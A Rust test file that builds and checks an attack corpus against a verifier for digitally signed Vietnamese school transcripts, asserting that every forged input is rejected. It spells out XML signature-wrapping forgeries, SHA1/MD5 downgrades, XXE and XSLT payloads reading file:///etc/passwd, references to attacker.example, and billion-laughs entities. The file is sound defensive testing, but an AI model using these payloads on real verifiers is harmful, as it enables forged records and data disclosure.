//! The attack corpus (`test-vectors/attacks/`): hostile documents built from a transcript signed
//! with the test PKI, each listed in `manifest.tsv` with the outcome it must have and why. Every
//! row is checked here: a new row is a new test. `HOCBA_REGENERATE=1` rebuilds the generated
//! files first (signatures change on every run: ECDSA values, time-stamps are not used).
//!
//! An outcome is one of
//! - `valid`: accepted (the variations XML itself declares harmless: a UTF-8 BOM, line endings);
//! - `invalid:CODE[,CODE...]`: `verify_trusted` reports the document invalid with exactly these
//!   finding codes (document problems, then each signature's, each once, in order);
//! - `error:KIND`: the input is refused outright (`hocba::Error`, e.g. `xml/dtd_not_allowed`).
//!
//! `detail` must occur in the English text of the report or error (`-` for none), and `previous`
//! names the earlier version the receiver holds (`-` for none), for the version checks.

mod common;

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use hocba::crypto::{self, PrivateKey, SignatureAlgorithm, certificates_from_pem_or_der};
use hocba::dsig::KeySigner;
use hocba::pki::{Crl, RevocationChecker, RevocationData, SigningOptions, TrustOptions, TrustStore};
use hocba::report::{Language, Verdict};
use hocba::time::UtcTime;
use hocba::transcript::{
    ProfileVerifyOptions, Role, Transcript, from_xml, sample, sign_as, sign_as_trusted, to_xml, verify_trusted,
};
use hocba::xml::XmlError;

fn corpus() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../test-vectors/attacks")
}

fn pki(name: &str) -> Vec<u8> {
    std::fs::read(format!("{}/../test-vectors/pki/{name}", env!("CARGO_MANIFEST_DIR"))).unwrap()
}

/// The verifier of the corpus: trusts only the test root, knows its CA as an intermediate
/// candidate only through the documents, has the CAs' CRLs, and judges at 2026-07-01.
fn trust() -> TrustOptions {
    let mut anchors = TrustStore::empty();
    anchors.add_pem_or_der(&pki("root-cert.pem")).unwrap();
    TrustOptions {
        trust: anchors,
        now: Some(UtcTime::parse("2026-07-01T00:00:00Z").unwrap()),
        ..TrustOptions::default()
    }
}

fn crls() -> RevocationChecker {
    let crls = [Crl::all_from_pem_or_der(&pki("ca.crl")).unwrap(), Crl::all_from_pem_or_der(&pki("root.crl")).unwrap()]
        .concat();
    RevocationChecker::offline(RevocationData { crls, ..Default::default() })
}

/// What the corpus verifier says about `xml` (and, with `previous`, about it as that version's successor).
struct Outcome {
    /// `valid`, `invalid:...` or `error:...`.
    kind: String,
    /// Every English text of the report, or the error.
    text: String,
    /// Whether the caller is handed a valid transcript.
    valid_transcript: bool,
}

fn outcome(xml: &[u8], previous: Option<&Transcript>) -> Outcome {
    let result = verify_trusted(xml, &ProfileVerifyOptions::default(), &trust(), &crls()).map(|mut verification| {
        if let Some(previous) = previous {
            verification.require_newer_than(previous);
        }
        verification
    });
    match result {
        Err(e) => Outcome { kind: format!("error:{}", error_kind(&e)), text: e.to_string(), valid_transcript: false },
        Ok(verification) => {
            let report = verification.report();
            common::assert_etsi_agrees(report);
            let mut codes: Vec<&str> = Vec::new();
            for code in report
                .problems()
                .iter()
                .chain(report.signatures().iter().flat_map(|s| s.problems()))
                .map(|f| f.code.as_str())
            {
                if !codes.contains(&code) {
                    codes.push(code);
                }
            }
            let kind = match report.verdict() {
                Verdict::Valid => {
                    assert!(codes.is_empty(), "a valid report with problems: {codes:?}");
                    "valid".to_owned()
                }
                Verdict::Invalid => format!("invalid:{}", codes.join(",")),
                Verdict::Undetermined => format!("undetermined:{}", codes.join(",")),
            };
            // Both languages are written for every finding.
            let vi = report.message(Language::Vi);
            assert!(vi.starts_with("Kết quả: "), "{vi}");
            Outcome {
                kind,
                text: report.message(Language::En),
                valid_transcript: verification.valid_transcript().is_some(),
            }
        }
    }
}

/// A stable name for an outright refusal.
fn error_kind(error: &hocba::Error) -> String {
    let xml = |e: &XmlError| match e {
        XmlError::InputTooLarge { .. } => "input_too_large",
        XmlError::NotUtf8 { .. } => "not_utf8",
        XmlError::UnsupportedEncoding { .. } => "unsupported_encoding",
        XmlError::UnsupportedVersion { .. } => "unsupported_version",
        XmlError::DtdNotAllowed { .. } => "dtd_not_allowed",
        XmlError::UnknownEntity { .. } => "unknown_entity",
        XmlError::TooDeep { .. } => "too_deep",
        XmlError::TooManyNodes { .. } => "too_many_nodes",
        XmlError::TooManyAttributes { .. } => "too_many_attributes",
        XmlError::AttributeValueTooLong { .. } => "attribute_value_too_long",
        XmlError::TextTooLong { .. } => "text_too_long",
        XmlError::TooManyNamespaces { .. } => "too_many_namespaces",
        XmlError::Malformed { .. } => "malformed",
        _ => "other",
    };
    match error {
        hocba::Error::Xml(e) => format!("xml/{}", xml(e)),
        hocba::Error::Transcript(hocba::transcript::TranscriptError::Xml(e)) => format!("xml/{}", xml(e)),
        other => format!("other/{other:?}"),
    }
}

#[test]
fn every_attack_in_the_corpus_has_exactly_its_outcome() {
    if std::env::var_os("HOCBA_REGENERATE").is_some() {
        generate::all(&corpus());
    }
    let rows = common::read_manifest(&corpus().join("manifest.tsv"));
    assert!(rows.len() >= 60, "the corpus lost rows: {}", rows.len());
    let mut failures = Vec::new();
    let mut listed = BTreeSet::new();
    for row in &rows {
        let file = &row["file"];
        assert!(listed.insert(file.clone()), "{file} is listed twice");
        assert!(!row["attack"].is_empty() && !row["reason"].is_empty(), "{file}: say what the attack is and why");
        let xml = std::fs::read(corpus().join(file)).unwrap_or_else(|e| panic!("{file}: {e}"));
        let previous = match row["previous"].as_str() {
            "-" => None,
            name => Some(from_xml(&std::fs::read(corpus().join(name)).unwrap()).expect("the previous version reads")),
        };
        let got = outcome(&xml, previous.as_ref());
        let expected = &row["expected"];
        let detail = &row["detail"];
        if got.kind != *expected {
            failures.push(format!("{file}: expected {expected}, got {}\n{}", got.kind, got.text));
        } else if detail != "-" && !got.text.contains(detail.as_str()) {
            failures.push(format!("{file}: {expected} as expected, but the text lacks {detail:?}:\n{}", got.text));
        } else if got.valid_transcript != (expected == "valid") {
            failures.push(format!("{file}: {expected}, yet valid_transcript() is {}", got.valid_transcript));
        }
    }
    // Every file is in the manifest: nothing in the corpus goes unchecked.
    for entry in std::fs::read_dir(corpus()).unwrap() {
        let name = entry.unwrap().file_name().into_string().unwrap();
        if name.ends_with(".xml") {
            assert!(listed.contains(&name), "{name} is in the corpus but not in manifest.tsv");
        }
    }
    assert!(failures.is_empty(), "{} of {} rows failed:\n\n{}", failures.len(), rows.len(), failures.join("\n\n"));
}

/// The generator: every file of the corpus from one transcript signed with the test PKI.
mod generate {
    use super::*;

    fn signer(name: &str, chain: &[&str], algorithm: SignatureAlgorithm) -> KeySigner {
        let key = PrivateKey::from_pem_or_der(&pki(&format!("{name}-key.pem"))).unwrap();
        let mut certificates = Vec::new();
        for cert in chain {
            certificates.extend(certificates_from_pem_or_der(&pki(cert)).unwrap());
        }
        KeySigner::new(key, certificates, algorithm, crypto::default_provider()).unwrap()
    }

    fn gvcn() -> KeySigner {
        signer("gvcn", &["gvcn-cert.pem", "ca-cert.pem"], SignatureAlgorithm::RSA_SHA256)
    }

    fn principal() -> KeySigner {
        signer("hieutruong", &["hieutruong-cert.pem", "ca-cert.pem"], SignatureAlgorithm::ECDSA_SHA256)
    }

    fn time() -> UtcTime {
        UtcTime::parse("2026-06-15T08:00:00+07:00").unwrap()
    }

    /// The THCS sample, with the test PKI's signers named in every year.
    pub(super) fn transcript() -> Transcript {
        let mut transcript = sample::secondary_with_transfer();
        // Two school years: enough for attacks across years, small enough to keep the corpus small.
        transcript.years.truncate(2);
        for year in &mut transcript.years {
            year.giao_vien_chu_nhiem = "Nguyễn Thị Hoa".into();
            year.hieu_truong = "Trần Văn Minh".into();
        }
        transcript
    }

    /// Every year signed by the GVCN `teacher` (checked against the test PKI only when it is the
    /// genuine one), then by the genuine principal, validation data from the verifier's CRLs.
    fn signed_by(transcript: &Transcript, teacher: &KeySigner, genuine_teacher: bool) -> Vec<u8> {
        let options = SigningOptions { tsa_url: None, embed_validation_data: false };
        let mut xml = to_xml(transcript).unwrap();
        for year in &transcript.years {
            xml = if genuine_teacher {
                sign_as_trusted(&xml, &year.id, Role::Gvcn, teacher, time(), &trust(), &crls(), &options).unwrap()
            } else {
                sign_as(&xml, &year.id, Role::Gvcn, teacher, time()).unwrap()
            };
            xml = sign_as_trusted(&xml, &year.id, Role::HieuTruong, &principal(), time(), &trust(), &crls(), &options)
                .unwrap();
        }
        xml
    }

    fn text(xml: Vec<u8>) -> String {
        String::from_utf8(xml).unwrap()
    }

    /// `s` with the first `from` replaced by `to`; the generator fails if `from` is absent.
    fn replace(s: &str, from: &str, to: &str) -> String {
        assert!(s.contains(from), "{from:?} not found");
        s.replacen(from, to, 1)
    }

    /// The byte range of the first element `<{name}` ... its end tag, from `from` on.
    fn element(s: &str, name: &str, from: usize) -> std::ops::Range<usize> {
        let start = s[from..].find(&format!("<{name}")).unwrap_or_else(|| panic!("<{name} not found")) + from;
        let close = format!("</{name}>");
        let end = s[start..].find(&close).unwrap() + start + close.len();
        start..end
    }

    /// A base64 line of the certificate `name` (the first of its PEM file).
    fn certificate_base64(name: &str) -> String {
        use base64ct::Encoding as _;
        base64ct::Base64::encode_string(&certificates_from_pem_or_der(&pki(name)).unwrap()[0])
    }

    /// The `Signature` element of `role` over the first year, as a byte range.
    fn signature(s: &str, role: &str) -> std::ops::Range<usize> {
        let place = s.find(&format!("<{role}><Signature")).unwrap() + role.len() + 2;
        element(s, "Signature", place)
    }

    /// The first year's GVCN signature rebuilt as RSA-SHA1 with SHA-1 digests, signed with the
    /// genuine teacher's key: what old signing software made.
    fn gvcn_resigned_with_sha1(xml: &str) -> String {
        use hocba::c14n::{Algorithm, Method, Subset, canonicalize_to_vec};
        use hocba::crypto::DigestAlgorithm;
        use hocba::xml::Document;
        let provider = crypto::default_provider();
        let c14n = Method::new(Algorithm::C14n10);
        let sha1 = |bytes: &[u8]| {
            let mut digest = provider.digest(DigestAlgorithm::Sha1);
            digest.update(bytes);
            use base64ct::Encoding as _;
            base64ct::Base64::encode_string(&digest.finish())
        };
        let range = signature(xml, "GVCN");
        let mut sig = xml[range.clone()].to_owned();
        // Each reference's digest, over the canonical form of what it points at.
        let doc = Document::parse(xml.as_bytes()).unwrap();
        let year = doc.descendants().find(|n| n.local_name() == "QuaTrinhHocTap").unwrap();
        let object = doc.descendants().find(|n| n.local_name() == "Object").unwrap();
        for node in [year, object] {
            let canonical = canonicalize_to_vec(&doc, &Subset::element(node).unwrap(), &c14n).unwrap();
            let value = sha1(&canonical);
            let at =
                sig.find("<DigestMethod Algorithm=\"http://www.w3.org/2001/04/xmlenc#sha256\"/><DigestValue>").unwrap();
            let end = sig[at..].find("</DigestValue>").unwrap() + at;
            sig.replace_range(
                at..end,
                &format!("<DigestMethod Algorithm=\"http://www.w3.org/2000/09/xmldsig#sha1\"/><DigestValue>{value}"),
            );
        }
        sig = replace(&sig, "xmldsig-more#rsa-sha256", "../../2000/09/xmldsig#rsa-sha1").replace(
            "http://www.w3.org/2001/04/../../2000/09/xmldsig#rsa-sha1",
            "http://www.w3.org/2000/09/xmldsig#rsa-sha1",
        );
        let with_digests = format!("{}{}{}", &xml[..range.start], sig, &xml[range.end..]);
        // The new SignedInfo, canonical in its place, signed with RSA-SHA1.
        let doc = Document::parse(with_digests.as_bytes()).unwrap();
        let signed_info = doc.descendants().find(|n| n.local_name() == "SignedInfo").unwrap();
        let canonical = canonicalize_to_vec(&doc, &Subset::element(signed_info).unwrap(), &c14n).unwrap();
        let key = PrivateKey::from_pem_or_der(&pki("gvcn-key.pem")).unwrap();
        let rsa_sha1 = SignatureAlgorithm::from_name("rsa-sha1").unwrap();
        let value = provider.sign(rsa_sha1, &key, &canonical).unwrap();
        use base64ct::Encoding as _;
        let value = base64ct::Base64::encode_string(&value);
        let at = element(&with_digests, "SignatureValue", range.start);
        let open = with_digests[at.clone()].find('>').unwrap() + at.start + 1;
        let close = at.end - "</SignatureValue>".len();
        format!("{}{}{}", &with_digests[..open], value, &with_digests[close..])
    }

    /// HMAC-SHA256 (RFC 2104) of `message` under `key`.
    fn hmac_sha256(key: &[u8], message: &[u8]) -> Vec<u8> {
        use sha2::{Digest as _, Sha256};
        let mut block = [0u8; 64];
        if key.len() > 64 {
            block[..32].copy_from_slice(&Sha256::digest(key));
        } else {
            block[..key.len()].copy_from_slice(key);
        }
        let pad = |byte: u8| block.iter().map(|b| b ^ byte).collect::<Vec<u8>>();
        let inner = Sha256::new().chain_update(pad(0x36)).chain_update(message).finalize();
        Sha256::new().chain_update(pad(0x5c)).chain_update(inner).finalize().to_vec()
    }

    /// The GVCN signature turned into HMAC-SHA256 keyed with the teacher's public key (its
    /// SubjectPublicKeyInfo DER, which anyone can read from the certificate in KeyInfo).
    fn hmac_with_public_key(xml: &str) -> String {
        use hocba::c14n::{Algorithm, Method, Subset, canonicalize_to_vec};
        use hocba::xml::Document;
        let range = signature(xml, "GVCN");
        let sig = replace(
            &xml[range.clone()],
            "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
            "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
        );
        let xml = format!("{}{}{}", &xml[..range.start], sig, &xml[range.end..]);
        let doc = Document::parse(xml.as_bytes()).unwrap();
        let signed_info = doc.descendants().find(|n| n.local_name() == "SignedInfo").unwrap();
        let canonical =
            canonicalize_to_vec(&doc, &Subset::element(signed_info).unwrap(), &Method::new(Algorithm::C14n10)).unwrap();
        let certificate = &certificates_from_pem_or_der(&pki("gvcn-cert.pem")).unwrap()[0];
        let spki = crypto::certificate_spki_der(certificate).unwrap();
        use base64ct::Encoding as _;
        let value = base64ct::Base64::encode_string(&hmac_sha256(&spki, &canonical));
        let at = element(&xml, "SignatureValue", range.start);
        let open = xml[at.clone()].find('>').unwrap() + at.start + 1;
        let close = at.end - "</SignatureValue>".len();
        format!("{}{}{}", &xml[..open], value, &xml[close..])
    }

    pub(super) fn all(dir: &Path) {
        std::fs::create_dir_all(dir).unwrap();
        let write = |name: &str, bytes: &[u8]| std::fs::write(dir.join(name), bytes).unwrap();
        let original = transcript();
        let genuine = text(signed_by(&original, &gvcn(), true));
        let g = genuine.as_str();
        write("genuine.xml", g.as_bytes());

        // The data to forge: the first year, with another student name.
        let name = &original.years[0].student.ho_va_ten;
        let year_id = original.years[0].id.clone();
        let first_year = element(g, "QuaTrinhHocTap", 0);
        let original_year = &g[first_year.clone()];
        let forged_year = replace(original_year, name, "Nguyễn Văn Giả");
        let without_id = |year: &str| replace(year, &format!(" Id=\"{year_id}\""), "");
        let splice =
            |range: std::ops::Range<usize>, with: &str| format!("{}{}{}", &g[..range.start], with, &g[range.end..]);
        let gvcn_signature = signature(g, "GVCN");
        // Inside the GVCN signature, just before its end tag.
        let in_signature = |content: &str| {
            let end = gvcn_signature.end - "</Signature>".len();
            format!("{}{}{}", &g[..end], content, &g[end..])
        };
        let with_namespace =
            |year: &str| replace(year, "<QuaTrinhHocTap ", "<QuaTrinhHocTap xmlns=\"urn:hocba:hocbaso:1.0\" ");
        let before_dscks = |content: &str| replace(g, "<DSCKS>", &format!("{content}<DSCKS>"));

        // Signature wrapping: the eight placements of a forged copy and the signed original.
        write("xsw1-forged-copy-after-original.xml", before_dscks(&forged_year).as_bytes());
        write(
            "xsw2-forged-copy-before-original.xml",
            splice(first_year.clone(), &format!("{forged_year}{original_year}")).as_bytes(),
        );
        let moved = splice(first_year.clone(), &without_id(&forged_year));
        let moved_end = moved.find("</GVCN>").unwrap() - "</Signature>".len();
        write(
            "xsw3-original-in-signature-object-forged-without-id.xml",
            format!("{}<Object>{}</Object>{}", &moved[..moved_end], with_namespace(original_year), &moved[moved_end..])
                .as_bytes(),
        );
        write(
            "xsw4-original-in-signature-object-forged-same-id.xml",
            in_signature(&format!("<Object>{}</Object>", with_namespace(original_year)))
                .replacen(original_year, &forged_year, 1)
                .as_bytes(),
        );
        let forged_id = format!("{year_id}-sua");
        let renamed = forged_year.replacen(&format!(" Id=\"{year_id}\""), &format!(" Id=\"{forged_id}\""), 1);
        let xsw5 = splice(first_year.clone(), &renamed).replacen(
            &format!("QuaTrinhHocTap=\"{year_id}\""),
            &format!("QuaTrinhHocTap=\"{forged_id}\""),
            1,
        );
        let xsw5 = replace(
            &xsw5,
            "<DSCKS>",
            &format!("<MoRong xmlns=\"urn:hocba:mo-rong\">{}</MoRong><DSCKS>", with_namespace(original_year)),
        );
        write("xsw5-original-in-extension-forged-renamed-with-its-place.xml", xsw5.as_bytes());
        write(
            "xsw6-original-nested-in-forged.xml",
            splice(
                first_year.clone(),
                &replace(&without_id(&forged_year), "</QuaTrinhHocTap>", &format!("{original_year}</QuaTrinhHocTap>")),
            )
            .as_bytes(),
        );
        write(
            "xsw7-signature-moved-into-the-data.xml",
            {
                let sig = &g[gvcn_signature.clone()];
                let emptied = format!("{}{}", &g[..gvcn_signature.start], &g[gvcn_signature.end..]);
                replace(&emptied, "</QuaTrinhHocTap>", &format!("{sig}</QuaTrinhHocTap>"))
            }
            .as_bytes(),
        );
        write(
            "xsw8-original-in-signature-object-of-other-namespace.xml",
            splice(first_year.clone(), &without_id(&forged_year))
                .replacen(
                    "</Signature></GVCN>",
                    &format!(
                        "<Object><ns:Wrapper xmlns:ns=\"urn:attacker\">{}</ns:Wrapper></Object></Signature></GVCN>",
                        with_namespace(original_year)
                    ),
                    1,
                )
                .as_bytes(),
        );
        write("duplicate-id-upper-case-attribute.xml", before_dscks(&replace(&forged_year, " Id=", " ID=")).as_bytes());
        write("duplicate-id-xml-id.xml", before_dscks(&replace(&forged_year, " Id=", " xml:id=")).as_bytes());
        write(
            "years-swapped-between-places.xml",
            {
                let second = element(g, "QuaTrinhHocTap", first_year.end);
                let second_year = &g[second.clone()];
                format!(
                    "{}{}{}{}{}",
                    &g[..first_year.start],
                    second_year,
                    &g[first_year.end..second.start],
                    original_year,
                    &g[second.end..]
                )
            }
            .as_bytes(),
        );
        write("forged-year-in-place.xml", splice(first_year.clone(), &forged_year).as_bytes());
        write(
            "principal-signature-removed.xml",
            {
                let principal = signature(g, "HieuTruong");
                format!("{}{}", &g[..principal.start], &g[principal.end..])
            }
            .as_bytes(),
        );
        write(
            "signing-time-changed.xml",
            replace(g, ">2026-06-15T08:00:00+07:00</SigningTime>", ">2026-06-14T08:00:00+07:00</SigningTime>")
                .as_bytes(),
        );

        // A year genuinely signed for another student (the attacker's own transcript, say),
        // spliced in with its signatures in place of ours: every signature verifies on its own.
        write(
            "year-from-another-students-transcript.xml",
            {
                let mut other = original.clone();
                for year in &mut other.years {
                    year.student.ma_dinh_danh = "001211000001".into();
                    year.student.ho_va_ten = "Nguyễn Văn Giả".into();
                }
                let theirs = text(signed_by(&other, &gvcn(), true));
                let second = |s: &str| element(s, "QuaTrinhHocTap", element(s, "QuaTrinhHocTap", 0).end);
                let places = |s: &str| element(s, "ChuKyNamHoc", element(s, "ChuKyNamHoc", 0).end);
                let (their_year, their_places) = (&theirs[second(&theirs)], &theirs[places(&theirs)]);
                let with_year = splice(second(g), their_year);
                let at = places(&with_year);
                format!("{}{}{}", &with_year[..at.start], their_places, &with_year[at.end..])
            }
            .as_bytes(),
        );

        // The Signature element itself.
        write(
            "two-signedinfo.xml",
            {
                let info = element(g, "SignedInfo", gvcn_signature.start);
                format!("{}{}{}", &g[..info.end], &g[info.clone()], &g[info.end..])
            }
            .as_bytes(),
        );
        write(
            "comment-in-digestvalue.xml",
            {
                let at = g[gvcn_signature.clone()].find("<DigestValue>").unwrap()
                    + gvcn_signature.start
                    + "<DigestValue>".len()
                    + 8;
                format!("{}<!--x-->{}", &g[..at], &g[at..])
            }
            .as_bytes(),
        );
        write(
            "pi-in-signaturevalue.xml",
            {
                let at = g[gvcn_signature.clone()].find("<SignatureValue").unwrap() + gvcn_signature.start;
                let at = g[at..].find('>').unwrap() + at + 1 + 16;
                format!("{}<?x y?>{}", &g[..at], &g[at..])
            }
            .as_bytes(),
        );

        // Keys and certificates.
        let mut forged = original.clone();
        forged.years[0].student.ho_va_ten = "Nguyễn Văn Giả".into();
        let attacker = |name: &str, chain: &[&str]| {
            text(signed_by(&forged, &signer(name, chain, SignatureAlgorithm::RSA_SHA256), false))
        };
        write("keyinfo-self-signed-teacher.xml", attacker("selfsigned-gvcn", &["selfsigned-gvcn-cert.pem"]).as_bytes());
        write(
            "keyinfo-chained-to-other-root.xml",
            attacker("other-gvcn", &["other-gvcn-cert.pem", "other-root-cert.pem"]).as_bytes(),
        );
        write("right-name-wrong-ca.xml", attacker("other-gvcn", &["other-gvcn-cert.pem", "ca-cert.pem"]).as_bytes());
        write(
            "keyinfo-certificate-swapped.xml",
            {
                let genuine_cert = certificate_base64("gvcn-cert.pem");
                replace(g, &genuine_cert, &certificate_base64("selfsigned-gvcn-cert.pem"))
            }
            .as_bytes(),
        );

        // Algorithms.
        let in_gvcn = |from: &str, to: &str| {
            let sig = replace(&g[gvcn_signature.clone()], from, to);
            splice(gvcn_signature.clone(), &sig)
        };
        write(
            "downgrade-signature-method-sha1.xml",
            in_gvcn("http://www.w3.org/2001/04/xmldsig-more#rsa-sha256", "http://www.w3.org/2000/09/xmldsig#rsa-sha1")
                .as_bytes(),
        );
        write(
            "downgrade-digest-sha1.xml",
            in_gvcn("http://www.w3.org/2001/04/xmlenc#sha256", "http://www.w3.org/2000/09/xmldsig#sha1").as_bytes(),
        );
        write(
            "downgrade-signature-method-md5.xml",
            in_gvcn(
                "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
                "http://www.w3.org/2001/04/xmldsig-more#rsa-md5",
            )
            .as_bytes(),
        );
        write(
            "downgrade-digest-md5.xml",
            in_gvcn("http://www.w3.org/2001/04/xmlenc#sha256", "http://www.w3.org/2001/04/xmldsig-more#md5").as_bytes(),
        );
        write(
            "sha1-signed-by-the-teacher.xml",
            {
                let options = SigningOptions { tsa_url: None, embed_validation_data: false };
                let mut xml = to_xml(&original).unwrap();
                for (i, year) in original.years.iter().enumerate() {
                    xml = sign_as(&xml, &year.id, Role::Gvcn, &gvcn(), time()).unwrap();
                    if i == 0 {
                        xml = gvcn_resigned_with_sha1(&text(xml)).into_bytes();
                    }
                    xml = sign_as_trusted(
                        &xml,
                        &year.id,
                        Role::HieuTruong,
                        &principal(),
                        time(),
                        &trust(),
                        &crls(),
                        &options,
                    )
                    .unwrap();
                }
                xml
            }
            .as_slice(),
        );
        write("hmac-keyed-with-the-public-key.xml", hmac_with_public_key(g).as_bytes());

        // Transforms and references.
        let c14n_transform = "<Transform Algorithm=\"http://www.w3.org/TR/2001/REC-xml-c14n-20010315\"/>";
        let enveloped = "<Transform Algorithm=\"http://www.w3.org/2000/09/xmldsig#enveloped-signature\"/>";
        write(
            "transform-chain-too-long.xml",
            in_gvcn(&format!("{enveloped}{c14n_transform}"), &format!("{}{c14n_transform}", enveloped.repeat(5)))
                .as_bytes(),
        );
        write(
            "transform-xslt.xml",
            in_gvcn(
                c14n_transform,
                "<Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\"><xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\"><xsl:template match=\"/\"><xsl:value-of select=\"document('file:///etc/passwd')\"/></xsl:template></xsl:stylesheet></Transform>",
            )
            .as_bytes(),
        );
        write(
            "transform-xpath.xml",
            in_gvcn(
                c14n_transform,
                "<Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\"><XPath>count(//. | //@* | //namespace::*) &gt; 0</XPath></Transform>",
            )
            .as_bytes(),
        );
        write(
            "transform-xpath-filter2.xml",
            in_gvcn(
                c14n_transform,
                "<Transform Algorithm=\"http://www.w3.org/2002/06/xmldsig-filter2\"><XPath xmlns=\"http://www.w3.org/2002/06/xmldsig-filter2\" Filter=\"subtract\">//HoVaTen</XPath></Transform>",
            )
            .as_bytes(),
        );
        let uri = format!("URI=\"#{year_id}\"");
        write("reference-external-http.xml", in_gvcn(&uri, "URI=\"http://attacker.example/hoc-ba.xml\"").as_bytes());
        write("reference-external-file.xml", in_gvcn(&uri, "URI=\"file:///etc/passwd\"").as_bytes());
        write("reference-xpointer.xml", in_gvcn(&uri, "URI=\"#xpointer(/)\"").as_bytes());
        write(
            "keyinfo-retrieval-method.xml",
            in_gvcn("<KeyInfo>", "<KeyInfo><RetrievalMethod URI=\"http://attacker.example/key.cer\" Type=\"http://www.w3.org/2000/09/xmldsig#rawX509Certificate\"/>").as_bytes(),
        );

        // DTDs and entities.
        let body = g.strip_prefix("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n").unwrap();
        let with_doctype = |doctype: &str, from: &str, to: &str| {
            format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n{doctype}\n{}", replace(body, from, to))
        };
        write(
            "doctype-internal-entity.xml",
            with_doctype("<!DOCTYPE HocBa [<!ENTITY ten \"Nguyễn Văn Giả\">]>", name, "&ten;").as_bytes(),
        );
        write(
            "doctype-external-entity.xml",
            with_doctype("<!DOCTYPE HocBa [<!ENTITY ten SYSTEM \"file:///etc/passwd\">]>", name, "&ten;").as_bytes(),
        );
        write(
            "doctype-external-dtd.xml",
            with_doctype("<!DOCTYPE HocBa SYSTEM \"http://attacker.example/hoc-ba.dtd\">", "", "").as_bytes(),
        );
        let mut laughs = String::from("<!DOCTYPE HocBa [<!ENTITY lol0 \"lol\">");
        for i in 1..10 {
            laughs.push_str(&format!("<!ENTITY lol{i} \"{}\">", format!("&lol{};", i - 1).repeat(10)));
        }
        laughs.push_str("]>");
        write("billion-laughs.xml", with_doctype(&laughs, name, "&lol9;").as_bytes());
        write(
            "quadratic-blowup.xml",
            with_doctype(
                &format!("<!DOCTYPE HocBa [<!ENTITY a \"{}\">]>", "a".repeat(20_000)),
                name,
                &"&a;".repeat(2_000),
            )
            .as_bytes(),
        );
        write("undeclared-entity.xml", replace(g, name, "&ten;").as_bytes());

        // Sizes.
        write(
            "nesting-10000-deep.xml",
            replace(g, "</HocSinh>", &format!("{}{}</HocSinh>", "<a>".repeat(10_000), "</a>".repeat(10_000)))
                .as_bytes(),
        );
        write(
            "huge-attribute.xml",
            replace(g, &format!(" Id=\"{year_id}\""), &format!(" Id=\"{year_id}\" x=\"{}\"", "a".repeat(100 << 10)))
                .as_bytes(),
        );
        let attributes: String = (0..300).map(|i| format!(" a{i}=\"1\"")).collect();
        write(
            "many-attributes.xml",
            replace(g, &format!(" Id=\"{year_id}\""), &format!(" Id=\"{year_id}\"{attributes}")).as_bytes(),
        );
        write(
            "huge-text-in-signed-data.xml",
            replace(g, &format!(">{name}<"), &format!(">{name}{}<", " ".repeat(512 << 10))).as_bytes(),
        );

        // Encodings and line ends.
        let mut bytes = replace(g, name, "@@").into_bytes();
        let at = bytes.windows(2).position(|w| w == b"@@").unwrap();
        bytes.splice(at..at + 2, [0xff]);
        write("invalid-utf8.xml", &bytes);
        let mut bytes = replace(g, name, "@@").into_bytes();
        bytes.splice(at..at + 2, [0xc0, 0xbc]);
        write("overlong-utf8.xml", &bytes);
        let mut bytes = replace(g, name, "@@").into_bytes();
        bytes.splice(at..at + 2, [0xed, 0xa0, 0x80]);
        write("utf8-encoded-surrogate.xml", &bytes);
        write("encoding-declared-latin1.xml", replace(g, "encoding=\"UTF-8\"", "encoding=\"ISO-8859-1\"").as_bytes());
        let mut utf16 = vec![0xff, 0xfe];
        utf16.extend(replace(g, "encoding=\"UTF-8\"", "encoding=\"UTF-16\"").encode_utf16().flat_map(u16::to_le_bytes));
        write("utf16-with-bom.xml", &utf16);
        write("utf8-bom.xml", format!("\u{feff}{g}").as_bytes());
        write("utf8-bom-twice.xml", format!("\u{feff}\u{feff}{g}").as_bytes());
        write("crlf-line-endings.xml", g.replace('\n', "\r\n").as_bytes());
        write("cr-line-endings.xml", g.replace('\n', "\r").as_bytes());
        write(
            "mixed-line-endings.xml",
            g.split('\n')
                .enumerate()
                .map(|(i, line)| format!("{line}{}", ["\n", "\r\n", "\r"][i % 3]))
                .collect::<String>()
                .trim_end_matches(['\r', '\n'])
                .to_owned()
                .as_bytes(),
        );
        write(
            "carriage-return-reference-in-signed-text.xml",
            replace(g, &format!(">{name}<"), &format!(">{name}&#13;<")).as_bytes(),
        );

        // Withdrawal and versions (the envelope is not signed: the sender sets it on every send).
        let envelope = |event: &str, version: u32| {
            replace(g, "<SuKien>NEW</SuKien>", &format!("<SuKien>{event}</SuKien>")).replacen(
                "<PhienBan>1</PhienBan>",
                &format!("<PhienBan>{version}</PhienBan>"),
                1,
            )
        };
        write("withdrawn-presented-as-current.xml", envelope("CANCEL", 1).as_bytes());
        write("version-3-held.xml", envelope("UPDATE", 3).as_bytes());
        write("update-lower-version.xml", envelope("UPDATE", 2).as_bytes());
        write("update-same-version-replayed.xml", envelope("UPDATE", 3).as_bytes());
        write("update-higher-version.xml", envelope("UPDATE", 4).as_bytes());
        write(
            "update-of-another-record.xml",
            replace(
                &envelope("UPDATE", 4),
                &format!("<IdBanGhi>{}</IdBanGhi>", original.envelope.id_ban_ghi),
                "<IdBanGhi>HB-KHAC-0001</IdBanGhi>",
            )
            .as_bytes(),
        );
    }
}
